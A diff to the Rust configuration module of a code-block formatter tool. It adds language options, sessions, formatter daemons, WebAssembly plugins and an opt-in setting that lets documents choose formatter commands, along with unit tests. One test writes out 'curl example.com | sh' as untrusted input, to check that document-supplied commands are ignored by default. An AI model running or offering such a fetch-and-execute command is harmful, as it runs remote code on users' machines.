@@ -1,13 +1,422 @@
-use serde::Deserialize;
+use super::session;
+use serde::{Deserialize, Deserializer};
 use std::collections::HashMap;
 
 #[derive(Debug, Deserialize)]
 pub struct Conf {
-    pub languages: HashMap<String, Vec<String>>,
+    #[serde(deserialize_with = "deserialize_languages")]
+    pub languages: HashMap<String, Language>,
+    #[serde(default)]
+    pub aliases: HashMap<String, String>,
+    /// Replace aliases in the document with the language they point to.
+    #[serde(default)]
+    pub canonicalize_languages: bool,
+    /// Language for codeblocks without a language.
+    pub default_language: Option<String>,
+    /// Guess the language of codeblocks without a language from their content.
+    #[serde(default)]
+    pub detect_language: bool,
+    #[serde(default)]
+    pub rules: Vec<Rule>,
+    #[serde(default)]
+    pub sessions: HashMap<String, Session>,
+    /// Long-running formatters, used with `daemon:NAME` in the formatters.
+    #[serde(default)]
+    pub daemons: HashMap<String, Daemon>,
+    /// WebAssembly formatters, used with `plugin:NAME` in the formatters.
+    #[serde(default)]
+    pub plugins: HashMap<String, Plugin>,
+    /// Let codeblocks choose their formatter with the `cbfmt` and `cbfmt-args`
+    /// attributes. Only turn this on for documents that are trusted.
+    #[serde(default)]
+    pub document_formatters: bool,
+    /// How deep codeblocks inside markdown, org, and restructuredtext
+    /// codeblocks are formatted.
+    #[serde(default)]
+    pub recursion_depth: usize,
+    #[serde(default)]
+    pub markdown: MarkdownConf,
+    #[serde(default)]
+    pub org: OrgConf,
+    #[serde(default)]
+    pub restructuredtext: RstConf,
+}
+
+/// A language is either a list of formatters or a table with options.
+#[derive(Clone, Debug, Default, Deserialize)]
+pub struct Language {
+    #[serde(default)]
+    pub formatters: Vec<String>,
+    /// Commands that check codeblocks with `--lint`, without changing them.
+    #[serde(default)]
+    pub check: Vec<String>,
+    /// Templates to wrap snippets in, tried in order until formatting succeeds.
+    #[serde(default)]
+    pub wrappers: Vec<Wrapper>,
+    /// Marker of hidden lines, like `#` in rustdoc.
+    pub hidden_lines: Option<String>,
+    /// Regexes for text formatters can not read, like `{{ var }}`. Matches are
+    /// replaced with placeholders while formatting.
+    #[serde(default)]
+    pub protect: Vec<String>,
+    /// Format all codeblocks of the language in a document together.
+    #[serde(default)]
+    pub join: bool,
+    /// Line comment of the language, used to separate joined codeblocks.
+    pub comment: Option<String>,
+    /// Format codeblocks of the language in batches of files.
+    pub batch: Option<Batch>,
+    /// Format the built-in sessions of the language, like `pycon` for python.
+    #[serde(default)]
+    pub session: bool,
+}
+
+/// A command that formats the files passed to it in place, like `black -q`.
+#[derive(Clone, Debug, Deserialize, PartialEq)]
+pub struct Batch {
+    pub command: String,
+    /// Extension of the files, formatters use it to find the language.
+    pub extension: String,
+    /// Maximum number of files for one call.
+    #[serde(default = "default_batch_size")]
+    pub size: usize,
+}
+
+#[derive(Clone, Debug, Default, Deserialize)]
+pub struct Wrapper {
+    #[serde(default)]
+    pub prefix: String,
+    #[serde(default)]
+    pub suffix: String,
+}
+
+#[derive(Deserialize)]
+#[serde(untagged)]
+enum LanguageEntry {
+    Formatters(Vec<String>),
+    Language(Language),
+}
+
+fn deserialize_languages<'de, D>(deserializer: D) -> Result<HashMap<String, Language>, D::Error>
+where
+    D: Deserializer<'de>,
+{
+    let entries = HashMap::<String, LanguageEntry>::deserialize(deserializer)?;
+    Ok(entries
+        .into_iter()
+        .map(|(name, entry)| {
+            let language = match entry {
+                LanguageEntry::Formatters(formatters) => Language {
+                    formatters,
+                    ..Default::default()
+                },
+                LanguageEntry::Language(l) => l,
+            };
+            (name, language)
+        })
+        .collect())
+}
+
+/// A session is a codeblock with prompts, like a python console. The lines
+/// after the prompts are formatted as `language`.
+#[derive(Clone, Debug, Deserialize)]
+pub struct Session {
+    /// Regex for the prompt at the start of an input.
+    pub prompt: String,
+    /// Regex for the prompt of the lines that continue an input.
+    pub continuation: Option<String>,
+    /// Prompt for new lines the formatter adds to an input.
+    pub continuation_text: Option<String>,
+    pub language: String,
+}
+
+/// A formatter server that cbfmt starts before the first codeblock and stops
+/// at the end of the run.
+#[derive(Clone, Debug, Deserialize)]
+pub struct Daemon {
+    pub protocol: Protocol,
+    /// Command that starts the daemon. Without it the daemon has to be running.
+    pub command: Option<String>,
+    /// Command that stops the daemon. Without it the started process is killed.
+    pub stop: Option<String>,
+    /// `host:port` of the daemon. The json protocol uses stdin and stdout
+    /// without it.
+    pub address: Option<String>,
+    /// File with the port and the token of a core_d daemon.
+    pub port_file: Option<String>,
+    /// HTTP headers for blackd, like `X-Line-Length`.
+    #[serde(default)]
+    pub headers: HashMap<String, String>,
+    /// Arguments for a core_d daemon, like `--stdin-filepath file.ts`.
+    #[serde(default)]
+    pub args: Vec<String>,
+}
+
+#[derive(Clone, Debug, Deserialize, PartialEq)]
+#[serde(rename_all = "snake_case")]
+pub enum Protocol {
+    /// One JSON object per line, `{"id", "language", "content"}`, answered
+    /// with `{"id", "content"}` or `{"id", "error"}`.
+    Json,
+    /// The HTTP API of blackd.
+    Blackd,
+    /// The protocol of prettierd, eslint_d, and other core_d daemons.
+    CoreD,
+}
+
+/// A formatter compiled to WebAssembly, run as a WASI command. Without the
+/// `plugins` feature it is only read to report that plugins are not available.
+#[derive(Clone, Debug, Deserialize)]
+#[cfg_attr(not(feature = "plugins"), allow(dead_code))]
+pub struct Plugin {
+    /// Path to the `.wasm` file, relative to the config file.
+    pub path: String,
+    #[serde(default)]
+    pub args: Vec<String>,
+    /// How much work the plugin can do for one codeblock, about one unit per
+    /// instruction.
+    #[serde(default = "default_plugin_fuel")]
+    pub fuel: u64,
+    /// Maximum memory of the plugin in MiB.
+    #[serde(default = "default_plugin_memory")]
+    pub memory: usize,
+}
+
+/// A rule overrides the formatters of `languages` for codeblocks that match
+/// its language and all of its attributes.
+#[derive(Debug, Deserialize)]
+pub struct Rule {
+    pub language: Option<String>,
+    #[serde(default)]
+    pub attributes: HashMap<String, String>,
+    pub formatters: Vec<String>,
+}
+
+#[derive(Debug, Default, Deserialize)]
+pub struct MarkdownConf {
+    #[serde(default)]
+    pub fence_collision: FenceCollision,
+    /// Rewrite all codeblocks to fenced codeblocks with the same fence style.
+    #[serde(default)]
+    pub normalize_fences: bool,
+    #[serde(default)]
+    pub fence_style: FenceStyle,
+    /// Also honour `<!-- prettier-ignore -->` markers.
+    #[serde(default)]
+    pub prettier_ignore: bool,
+}
+
+#[derive(Debug, Default, Deserialize, PartialEq)]
+#[serde(rename_all = "lowercase")]
+pub enum FenceStyle {
+    #[default]
+    Backtick,
+    Tilde,
+}
+
+impl FenceStyle {
+    pub fn char(&self) -> char {
+        match self {
+            FenceStyle::Backtick => '`',
+            FenceStyle::Tilde => '~',
+        }
+    }
+}
+
+/// What to do when formatted output contains a line that would close the fence.
+#[derive(Debug, Default, Deserialize, PartialEq)]
+#[serde(rename_all = "lowercase")]
+pub enum FenceCollision {
+    /// Make the fence longer than the longest line of fence characters.
+    #[default]
+    Lengthen,
+    /// Fail with an error.
+    Error,
+}
+
+#[derive(Debug, Default, Deserialize)]
+pub struct OrgConf {
+    /// Same as `org-src-preserve-indentation`, contents are formatted and
+    /// written back without changing their indentation.
+    #[serde(default)]
+    pub preserve_indentation: bool,
+    /// Same as `org-edit-src-content-indentation`, contents are indented
+    /// relative to `#+begin_src`. If not set the existing indent is kept.
+    pub content_indentation: Option<usize>,
+}
+
+#[derive(Debug, Default, Deserialize)]
+pub struct RstConf {
+    /// Indent of directive content relative to the directive. If not set the
+    /// existing indent is kept.
+    pub indent: Option<usize>,
+}
+
+fn default_batch_size() -> usize {
+    100
+}
+
+fn default_plugin_fuel() -> u64 {
+    10_000_000_000
+}
+
+fn default_plugin_memory() -> usize {
+    512
+}
+
+impl Conf {
+    /// Returns the language an alias points to. Aliases are case insensitive.
+    pub fn get_language<'a>(&'a self, language: &'a str) -> &'a str {
+        match self.aliases.get(language) {
+            Some(l) => l,
+            None => self
+                .aliases
+                .get(&language.to_lowercase())
+                .map_or(language, |l| l),
+        }
+    }
+
+    /// Returns the session for a codeblock. Codeblocks of the session language
+    /// are sessions as well when they start with a prompt, like python doctests.
+    /// Built-in sessions are only used when their language has `session = true`.
+    pub fn get_session(&self, language: &str, content: &str) -> Option<Session> {
+        let get_builtin = |name: &str| {
+            session::get_builtin(name)
+                .filter(|s| self.languages.get(&s.language).is_some_and(|l| l.session))
+        };
+        if let Some(session) = self
+            .sessions
+            .get(language)
+            .cloned()
+            .or_else(|| get_builtin(language))
+        {
+            return Some(session);
+        }
+        let mut sessions = self.sessions.values().cloned().chain(
+            ["pycon", "console", "irb"]
+                .iter()
+                .filter_map(|n| get_builtin(n)),
+        );
+        sessions.find(|s| s.language == language && session::starts_with_prompt(s, content))
+    }
+
+    /// Returns the formatters for a codeblock. The `cbfmt` attribute replaces the
+    /// formatters, `cbfmt-args` is appended to each of them.
+    pub fn get_formatters(
+        &self,
+        language: &str,
+        attributes: &HashMap<String, String>,
+    ) -> Option<Vec<String>> {
+        let formatters = match self.rules.iter().find(|r| r.matches(language, attributes)) {
+            Some(rule) => Some(&rule.formatters),
+            None => self.languages.get(language).map(|l| &l.formatters),
+        };
+        if !self.document_formatters {
+            return formatters.cloned();
+        }
+
+        let formatters = match attributes.get("cbfmt") {
+            Some(f) if f.trim().is_empty() => Vec::new(),
+            Some(f) => vec![f.to_owned()],
+            None => formatters?.to_owned(),
+        };
+        match attributes.get("cbfmt-args") {
+            Some(args) => Some(formatters.iter().map(|f| format!("{f} {args}")).collect()),
+            None => Some(formatters),
+        }
+    }
+}
+
+impl Rule {
+    fn matches(&self, language: &str, attributes: &HashMap<String, String>) -> bool {
+        if let Some(l) = &self.language {
+            if l != language {
+                return false;
+            }
+        }
+        self.attributes
+            .iter()
+            .all(|(key, value)| attributes.get(key) == Some(value))
+    }
 }
 
 pub fn get(name: &str) -> Result<Conf, std::io::Error> {
     let toml_string = std::fs::read_to_string(name)?;
     let conf: Conf = toml::from_str(&toml_string)?;
+    if !cfg!(feature = "plugins") && !conf.plugins.is_empty() {
+        return Err(std::io::Error::new(
+            std::io::ErrorKind::Unsupported,
+            "Plugins are configured, but cbfmt was built without the plugins feature.",
+        ));
+    }
     Ok(conf)
 }
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_get_formatters_from_document() {
+        let conf: Conf =
+            toml::from_str("document_formatters = true\n[languages]\npython = [\"black -\"]")
+                .unwrap();
+        let attributes = HashMap::from([
+            ("cbfmt".to_string(), "ruff format -".to_string()),
+            ("cbfmt-args".to_string(), "--line-length 60".to_string()),
+        ]);
+        assert_eq!(
+            Some(vec!["ruff format - --line-length 60".to_string()]),
+            conf.get_formatters("python", &attributes)
+        );
+        assert_eq!(None, conf.get_formatters("lua", &HashMap::new()));
+    }
+
+    #[test]
+    fn test_get_formatters_ignores_document_by_default() {
+        let conf: Conf = toml::from_str("[languages]\npython = [\"black -\"]").unwrap();
+        let attributes = HashMap::from([
+            ("cbfmt".to_string(), "curl example.com | sh".to_string()),
+            ("cbfmt-args".to_string(), "--line-length 60".to_string()),
+        ]);
+        assert_eq!(
+            Some(vec!["black -".to_string()]),
+            conf.get_formatters("python", &attributes)
+        );
+        assert_eq!(None, conf.get_formatters("lua", &attributes));
+    }
+
+    #[test]
+    fn test_builtin_sessions_are_opt_in() {
+        let conf: Conf = toml::from_str("[languages]\npython = [\"black -\"]").unwrap();
+        assert!(conf.get_session("pycon", ">>> x\n").is_none());
+        assert!(conf.get_session("python", ">>> x\n").is_none());
+
+        let conf: Conf =
+            toml::from_str("[languages.python]\nformatters = [\"black -\"]\nsession = true")
+                .unwrap();
+        assert!(conf.get_session("pycon", ">>> x\n").is_some());
+        assert!(conf.get_session("python", ">>> x\n").is_some());
+        assert!(conf.get_session("python", "x\n").is_none());
+        assert!(conf.get_session("console", "$ x\n").is_none());
+    }
+
+    #[test]
+    fn test_language_table() {
+        let conf: Conf = toml::from_str(
+            r#"
+            [languages]
+            python = ["black -"]
+            rust = { formatters = ["rustfmt"], wrappers = [{}, { prefix = "fn main() {", suffix = "}" }] }
+            "#,
+        )
+        .unwrap();
+        assert_eq!(
+            Some(vec!["rustfmt".to_string()]),
+            conf.get_formatters("rust", &HashMap::new())
+        );
+        assert_eq!(2, conf.languages["rust"].wrappers.len());
+        assert_eq!("fn main() {", conf.languages["rust"].wrappers[1].prefix);
+        assert!(conf.languages["python"].wrappers.is_empty());
+    }
+}